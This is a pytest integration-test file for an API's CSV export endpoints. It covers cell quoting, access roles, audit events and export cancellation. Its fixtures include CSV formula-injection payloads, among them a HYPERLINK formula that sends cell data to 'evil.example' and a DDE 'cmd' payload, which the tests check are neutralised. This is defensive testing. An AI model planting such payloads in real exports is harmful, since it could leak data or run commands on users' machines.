"""``/api/v1/exports/*.csv`` over real HTTP on a real database: what a spreadsheet user
gets (quoting, neutralisation, times, columns, BOM), who may export what, the audit
event, and a client that goes away mid-export (the COPY stops, the connection is back)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
import trio

from daemon.api import ApiContext, create_app, create_asgi
from daemon.api.server import HttpService
from daemon.modules.audit import AuditContext
from daemon.modules.auth import Role, create_api_key
from daemon.modules.exports import (
    COLUMNS,
    ExportKind,
    ExportRequest,
    ExportSlots,
    ExportStream,
    neutralise,
    select_columns,
)
from daemon.modules.ingestion import DocumentFilter, IntakeWriter, document_filter_sql
from daemon.shared.config import Settings
from daemon.shared.db import migrate
from daemon.shared.errors import DatabaseError
from daemon.shared.health import HealthState
from tests.integration.api_server import FAST_HASHING, SYSTEM, bearer, free_port, serve_api

TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    'He said "hi", then left',
    "a,b,c",
    "line one\nline two\r\nline three",
    "Naïve café ☃ 日本語 🚀",
    "",
    "plain title",
]
ISO_UTC = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?Z$")


async def insert_documents(pool, titles, *, external_id="=cmd|' /C calc'!A0", state="completed"):
    async with pool.transaction() as conn:
        rows = await (
            await conn.execute(
                "INSERT INTO documents (title, external_id, state, metadata, size_bytes)"
                " SELECT t, %s, %s::document_state, jsonb_build_object('n', n), n"
                " FROM unnest(%s::text[]) WITH ORDINALITY AS u(t, n) RETURNING id, created_at",
                (external_id, state, titles),
            )
        ).fetchall()
    return rows


def parse(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


async def audit_events(pool, action):
    async with pool.connection() as conn:
        rows = await (
            await conn.execute(
                "SELECT actor_type::text, details FROM audit_events WHERE action = %s ORDER BY id",
                (action,),
            )
        ).fetchall()
    return rows


async def test_documents_csv_round_trips_with_neutralised_formulas(api):
    inserted = await insert_documents(api.pool, TITLES)
    viewer = bearer(await api.token(Role.VIEWER))
    async with api.client(headers=viewer) as client:
        response = await client.get("/api/v1/exports/documents.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["content-disposition"] == (
        f'attachment; filename="documents-{today}.csv"'
    )
    assert not response.content.startswith(b"\xef\xbb\xbf")
    rows = parse(response.content)
    assert list(rows[0]) == list(COLUMNS[ExportKind.DOCUMENTS])
    assert [row["title"] for row in rows] == [neutralise(t) for t in TITLES]
    # The neutralised ones, spelled out: the prefix is one single quote, nothing else.
    assert rows[0]["title"] == "'" + TITLES[0]
    assert [rows[i]["title"] for i in (1, 2, 3)] == ["'+1", "'-2", "'@SUM(A1:A9)"]
    assert rows[4]["title"] == "'\tTabbed" and rows[5]["title"] == "'\rCarriage"
    assert rows[8]["title"] == TITLES[8] and rows[9]["title"] == TITLES[9]
    assert all(row["external_id"] == "'=cmd|' /C calc'!A0" for row in rows)
    for row, (document_id, created_at) in zip(rows, inserted, strict=True):
        assert row["id"] == str(document_id)
        assert ISO_UTC.match(row["created_at"]), row["created_at"]
        parsed = datetime.fromisoformat(row["created_at"])
        assert parsed == created_at
        assert row["completed_at"] == ""  # NULL: an empty cell
        # When it reached its terminal state (set by the trigger of migration 0013, in
        # the inserting transaction): what the retention periods count from.
        assert datetime.fromisoformat(row["finished_at"]) == created_at
        assert row["state"] == "completed"
    assert rows[0]["metadata"] == '{"n": 1}'


async def test_columns_select_and_order_a_subset_and_unknown_ones_are_named(api):
    await insert_documents(api.pool, ["one", "=two"])
    viewer = bearer(await api.token(Role.VIEWER))
    async with api.client(headers=viewer) as client:
        response = await client.get(
            "/api/v1/exports/documents.csv", params={"columns": "title,id", "bom": "1"}
        )
        assert response.status_code == 200
        assert response.content.startswith("\ufeff".encode())
        body = response.content.removeprefix("\ufeff".encode())
        assert body.splitlines()[0] == b"title,id"
        assert [r["title"] for r in parse(body)] == ["one", "'=two"]

        refused = await client.get(
            "/api/v1/exports/documents.csv", params={"columns": "id,nope,title"}
        )
        assert refused.status_code == 422
        errors = refused.json()["errors"]
        assert errors[0]["field"] == "columns" and "'nope'" in errors[0]["message"]

        twice = await client.get("/api/v1/exports/documents.csv", params={"columns": "id,id"})
        assert twice.status_code == 422
        paged = await client.get("/api/v1/exports/documents.csv", params={"limit": "5"})
        assert paged.status_code == 422 and paged.json()["errors"][0]["field"] == "limit"


async def test_filters_are_the_lists_and_the_export_is_audited(api):
    await insert_documents(api.pool, ["done one", "done two"], state="completed")
    await insert_documents(api.pool, ["broken"], state="failed")
    viewer_user = await api.user(Role.VIEWER)
    viewer = bearer(await api.session(viewer_user))
    async with api.client(headers=viewer) as client:
        listed = await client.get("/api/v1/documents", params={"state": "failed"})
        exported = await client.get("/api/v1/exports/documents.csv", params={"state": "failed"})
        texted = await client.get("/api/v1/exports/documents.csv", params={"q": "DONE"})
        head = await client.head("/api/v1/exports/documents.csv")  # runs no export
    assert head.status_code == 200 and head.headers["content-type"].startswith("text/csv")
    assert [d["title"] for d in listed.json()["items"]] == ["broken"]
    assert [r["title"] for r in parse(exported.content)] == ["broken"]
    assert [r["title"] for r in parse(texted.content)] == ["done one", "done two"]
    events = await audit_events(api.pool, "export.documents")
    assert len(events) == 2
    actor_type, details = events[0]
    assert actor_type == "user"
    assert details["filters"] == {"state": "failed"}
    assert details["rows"] == 1 and details["complete"] is True
    assert details["columns"] == list(COLUMNS[ExportKind.DOCUMENTS])
    assert events[1][1]["filters"] == {"q": "DONE"} and events[1][1]["rows"] == 2


async def test_cases_and_audit_exports_and_who_may_call_them(api):
    [(document_id, _)] = await insert_documents(api.pool, ["=case doc"])
    async with api.pool.transaction() as conn:
        await conn.execute(
            "INSERT INTO cases (document_id, severity, assignee, tags, reason)"
            " VALUES (%s, 'high', '@ops', ARRAY['-x', 'y'], '+reason')",
            (document_id,),
        )
    viewer = bearer(await api.token(Role.VIEWER))
    analyst = bearer(await api.token(Role.ANALYST))
    admin = bearer(await api.token(Role.ADMIN))
    async with api.client(headers=viewer) as client:
        cases = await client.get("/api/v1/exports/cases.csv", params={"severity": "high"})
        assert cases.status_code == 200
        [row] = parse(cases.content)
        assert row["document_title"] == "'=case doc" and row["assignee"] == "'@ops"
        assert row["reason"] == "'+reason" and row["tags"] == '["-x", "y"]'
        assert (await client.get("/api/v1/exports/audit.csv")).status_code == 403
    async with api.client(headers=analyst) as client:
        assert (await client.get("/api/v1/exports/audit.csv")).status_code == 403
        assert (await client.get("/api/v1/exports/cases.csv")).status_code == 200
    async with api.client(headers=admin) as client:
        audit = await client.get(
            "/api/v1/exports/audit.csv", params={"action_prefix": "export.", "columns": "action"}
        )
    assert audit.status_code == 200
    assert audit.headers["content-disposition"].startswith('attachment; filename="audit-')
    # Each export is audited when it starts (committed before its first byte: the audit
    # export's own start is in its snapshot) and when it ends.
    assert [r["action"] for r in parse(audit.content)] == [
        "export.started", "export.cases", "export.started", "export.cases", "export.started",
    ]  # fmt: skip


async def _copy_running(pool) -> int:
    async with pool.connection() as conn:
        row = await (
            await conn.execute(
                "SELECT count(*) FROM pg_stat_activity"
                " WHERE datname = current_database() AND query LIKE 'COPY (SELECT%%'"
                " AND state <> 'idle' AND backend_type = 'client backend'"
            )
        ).fetchone()
    return int(row[0])


@pytest.mark.trio
async def test_a_client_that_goes_away_cancels_the_copy_and_frees_its_slot(pool):
    async with pool.transaction() as conn:
        await conn.execute(
            "INSERT INTO documents (title, state)"
            " SELECT repeat('x', 200) || g, 'completed' FROM generate_series(1, 100000) g"
        )
    async with serve_api(pool, export_max_concurrent=1) as api:
        token = await api.token(Role.VIEWER)
        port = int(api.url.rsplit(":", 1)[1])
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        await stream.send_all(
            b"GET /api/v1/exports/documents.csv HTTP/1.1\r\nHost: t\r\n"
            b"Authorization: Bearer " + token.encode() + b"\r\n\r\n"
        )
        received = await stream.receive_some(65536)
        assert received.startswith(b"HTTP/1.1 200")
        # The client stops reading: ~20 MB of CSV cannot all be buffered on the way, so
        # the query waits for the client (back-pressure) instead of running to its end.
        await trio.sleep(1.0)
        assert await _copy_running(pool) == 1
        # Mid-export (where a SIGKILL would leave it), the export is already audited.
        [(actor_type, started)] = await audit_events(pool, "export.started")
        assert actor_type == "user"
        assert started == {
            "kind": "documents",
            "filters": {},
            "columns": list(COLUMNS[ExportKind.DOCUMENTS]),
        }
        assert await audit_events(pool, "export.documents") == []
        async with api.client(headers=bearer(token)) as client:
            busy = await client.get("/api/v1/exports/documents.csv")
            assert busy.status_code == 503 and busy.headers["retry-after"] == "5"
            # The API still answers while the export holds its connection.
            assert (await client.get("/api/v1/documents?limit=20")).status_code == 200
        await stream.aclose()
        with trio.fail_after(10):
            while await _copy_running(pool):
                await trio.sleep(0.05)
            while not (events := await audit_events(pool, "export.documents")):
                await trio.sleep(0.05)
        details = events[0][1]
        assert details["complete"] is False and 0 < details["rows"] < 100_000
        # The slot and the connection are back: a second export runs to its end.
        async with api.client(headers=bearer(token)) as client:
            again = await client.get("/api/v1/exports/documents.csv", params={"columns": "id"})
        assert again.status_code == 200
        assert len(again.content.splitlines()) == 100_001
        stats = pool.stats()
        assert stats.in_use == 0, stats


async def test_an_export_in_flight_at_shutdown_is_cut_at_the_grace_deadline(pool):
    """What the supervisor does on SIGTERM: stop the listener, let requests run for the
    grace period, then cancel the HTTP service. An export whose client stopped reading
    is cut there: its COPY stops, its audit event says so, its connection is back."""

    async with pool.transaction() as conn:
        await conn.execute(
            "INSERT INTO documents (title, state)"
            " SELECT repeat('y', 200) || g, 'completed' FROM generate_series(1, 100000) g"
        )
    settings = Settings(http_host="127.0.0.1", http_port=free_port(), **FAST_HASHING)
    health = HealthState(expected_schema_version=migrate.latest_version(), started=True)
    context = ApiContext(
        settings=settings, health=health, pool=pool, intake_writer=IntakeWriter(pool)
    )
    service = HttpService(create_asgi(create_app(context), context), settings)

    key = (await create_api_key(pool, name="k", role=Role.VIEWER, context=SYSTEM)).secret
    async with trio.open_nursery() as http_group:
        await http_group.start(service.run)
        stream = await trio.open_tcp_stream("127.0.0.1", settings.http_port)
        await stream.send_all(
            b"GET /api/v1/exports/documents.csv HTTP/1.1\r\nHost: t\r\n"
            b"Authorization: Bearer " + key.encode() + b"\r\n\r\n"
        )
        assert (await stream.receive_some(65536)).startswith(b"HTTP/1.1 200")
        await trio.sleep(0.5)
        assert await _copy_running(pool) == 1
        service.request_stop()
        await trio.sleep(0.5)  # within the grace period: the export is still in flight
        assert await _copy_running(pool) == 1
        http_group.cancel_scope.cancel()  # the grace deadline
    # The service has returned: the export was cut, not left running.
    with trio.fail_after(10):
        while await _copy_running(pool):
            await trio.sleep(0.05)
    events = await audit_events(pool, "export.documents")
    # The client sees a cut body: the connection ends without chunked encoding's last
    # chunk, so no HTTP/1.1 client takes the file for complete.
    tail = b""
    with trio.fail_after(10):
        while data := await stream.receive_some(1 << 20):
            tail = (tail + data)[-64:]
    await stream.aclose()
    assert not tail.endswith(b"0\r\n\r\n")
    assert len(events) == 1
    assert events[0][1]["complete"] is False
    assert pool.stats().in_use == 0


async def test_an_export_takes_the_times_its_list_takes(api):
    """Found by the fuzz test: an offset Python takes and PostgreSQL's text input does
    not (-20:59) failed the export's COPY (whose parameters are literals) after the 200
    was sent, while the list (bound parameters) took it. Both take it now."""
    admin = bearer(await api.token(Role.ADMIN))
    since = {"since": "1991-11-13T03:32:28.294934-20:59", "action_prefix": "auth."}
    async with api.client(headers=admin) as client:
        listed = await client.get("/api/v1/audit", params=since)
        exported = await client.get("/api/v1/exports/audit.csv", params=since)
    assert listed.status_code == 200 and exported.status_code == 200
    listed_ids = [str(e["id"]) for e in reversed(listed.json()["items"])]
    assert listed_ids == [row["id"] for row in parse(exported.content)]
    assert len(listed_ids) >= 1  # the admin's login


async def test_an_export_whose_start_cannot_be_audited_is_refused_before_any_byte(pool):
    """The audit chain's lock held by another transaction: ``export.started`` cannot be
    committed in time, so the export is refused (503 at the API) and no COPY runs."""
    await insert_documents(pool, ["one", "two"])
    predicate, params = document_filter_sql(DocumentFilter())
    request = ExportRequest(
        kind=ExportKind.DOCUMENTS,
        columns=select_columns(ExportKind.DOCUMENTS, "id,title"),
        predicate=predicate,
        params=params,
        filters={},
    )
    slots = ExportSlots(1)
    async with pool.connection() as blocker:
        await blocker.execute("SELECT 1 FROM audit_chain FOR UPDATE")  # until rolled back
        stream = ExportStream(
            pool, request, slots.take(), context=AuditContext.system(), audit_timeout=0.5
        )
        with pytest.raises(DatabaseError):
            await stream.start()
        assert stream.rows == 0 and not stream.complete
        assert slots.running == 0
        await blocker.rollback()
    assert await audit_events(pool, "export.started") == []
    assert await audit_events(pool, "export.documents") == []
    # Once the chain is free, the same export is audited first and runs.
    stream = ExportStream(pool, request, slots.take(), context=AuditContext.system())
    body = b"".join([chunk async for chunk in stream])
    assert [r["title"] for r in parse(body)] == ["one", "two"]
    assert [e[1]["columns"] for e in await audit_events(pool, "export.started")] == [
        ["id", "title"]
    ]
    [(_, ended)] = await audit_events(pool, "export.documents")
    assert ended["rows"] == 2 and ended["complete"] is True
    assert pool.stats().in_use == 0
